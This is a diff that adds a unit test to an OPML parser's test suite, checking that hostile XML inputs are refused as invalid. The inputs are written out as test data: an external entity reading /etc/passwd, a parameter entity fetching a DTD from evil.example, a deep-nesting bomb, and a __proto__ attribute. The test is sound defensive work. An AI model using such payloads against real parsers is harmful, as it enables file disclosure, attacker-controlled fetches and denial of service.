@@ -63,6 +63,20 @@ describe('parseOpml', () => {
     );
   });
 
+  it('refuses external and parameter entities, deep nesting and __proto__ names as invalid OPML', () => {
+    const hostile = {
+      external: `<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>${opml('<outline text="&x;" xmlUrl="https://a.example/f"/>').replace(/^<\?xml[^>]*>/, '')}`,
+      parameter: `<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>${opml(feed(1)).replace(/^<\?xml[^>]*>/, '')}`,
+      deep: opml('<outline text="g">'.repeat(20_000) + '</outline>'.repeat(20_000)),
+      proto: opml('<outline __proto__="x" text="a" xmlUrl="https://a.example/f"/>'),
+    };
+    for (const [name, text] of Object.entries(hostile)) {
+      const e = refusal(text);
+      expect(e.status, name).toBe(400);
+      expect(e.message, name).toMatch(/^The file is not valid OPML: /);
+    }
+  });
+
   it('refuses more than 500 feeds and more than 1 MB', () => {
     const many = opml(Array.from({ length: MAX_OPML_FEEDS + 1 }, (_, i) => feed(i)).join(''));
     const big = opml(`<outline text="${'x'.repeat(1024 * 1024)}"/>`);
